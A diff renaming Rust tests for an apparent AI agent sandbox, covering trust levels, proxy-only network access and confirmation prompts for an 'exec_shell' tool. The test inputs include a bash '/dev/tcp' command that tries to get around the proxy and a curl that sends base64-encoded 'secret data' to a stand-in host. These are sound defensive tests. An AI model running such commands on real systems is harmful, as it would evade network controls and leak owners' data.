@@ -42,7 +42,7 @@ async fn trust_of_file(world: &World, path: &str) -> Trust {
 }
 
 #[tokio::test]
-async fn who_has_reached_a_host_is_not_believed_and_says_which() {
+async fn exec_shell_has_low_trust_after_reaching_a_host_and_names_it() {
     let (world, address, asked) = world().await;
     let reaching = on_behalf(Trust::Full);
     let ran = world.run_in(&reaching, "exec_shell", ask(&format!("'GET http://{address}/'"))).await;
@@ -56,7 +56,7 @@ async fn who_has_reached_a_host_is_not_believed_and_says_which() {
 }
 
 #[tokio::test]
-async fn who_was_refused_is_believed_as_before_and_told_why() {
+async fn exec_shell_keeps_its_trust_if_a_host_is_refused() {
     let (world, address, asked) = world().await;
     let (_, port) = address.split_once(':').unwrap();
     for (what, said) in [
@@ -77,7 +77,7 @@ async fn who_was_refused_is_believed_as_before_and_told_why() {
 }
 
 #[tokio::test]
-async fn the_server_is_reached_by_no_other_way() {
+async fn exec_shell_cannot_reach_a_host_around_the_proxy() {
     let (world, address, asked) = world().await;
     let direct = format!("bash -c 'exec 3<>/dev/tcp/{}' || echo closed", address.replace(':', "/"));
     let value = world.value("exec_shell", json!({ "command": direct })).await;
@@ -86,7 +86,7 @@ async fn the_server_is_reached_by_no_other_way() {
 }
 
 #[tokio::test]
-async fn a_program_in_the_background_is_not_believed_as_soon_as_it_has_reached_a_host() {
+async fn background_program_has_low_trust_once_it_reaches_a_host() {
     let (world, address, _) = world().await;
     let started = on_behalf(Trust::Full);
     let command = format!(
@@ -111,7 +111,7 @@ async fn a_program_in_the_background_is_not_believed_as_soon_as_it_has_reached_a
 }
 
 #[tokio::test]
-async fn what_people_use_finds_the_way_by_itself() {
+async fn proxy_is_found_by_curl_and_python_without_options() {
     let (world, address, asked) = world().await;
     let url = format!("http://{address}/");
     let python = format!("import urllib.request as r; print(r.urlopen(\"{url}\").read().decode())");
@@ -127,7 +127,7 @@ async fn what_people_use_finds_the_way_by_itself() {
 }
 
 #[tokio::test]
-async fn git_reaches_a_remote_that_is_open_through_the_proxy() {
+async fn proxy_lets_git_reach_an_open_remote() {
     if !has("git") {
         return println!("skipped: no git");
     }
@@ -157,7 +157,7 @@ async fn git_reaches_a_remote_that_is_open_through_the_proxy() {
 }
 
 #[tokio::test]
-async fn the_model_is_told_which_hosts_are_open() {
+async fn tool_descriptions_name_the_open_hosts() {
     let (world, address, _) = world().await;
     let hosts = format!("{address}, a.example");
     let specs =
@@ -170,7 +170,7 @@ async fn the_model_is_told_which_hosts_are_open() {
 }
 
 #[tokio::test]
-async fn where_hosts_are_open_a_command_that_carries_something_away_is_asked_about_each_time() {
+async fn exec_shell_asks_each_time_for_a_command_that_sends_data_to_open_hosts() {
     let (open, ..) = world().await;
     let closed = World::new().await;
     let command = "curl 'https://a.example/?d=c2VjcmV0IGRhdGEgb2YgdGhlIG93bmVy'";
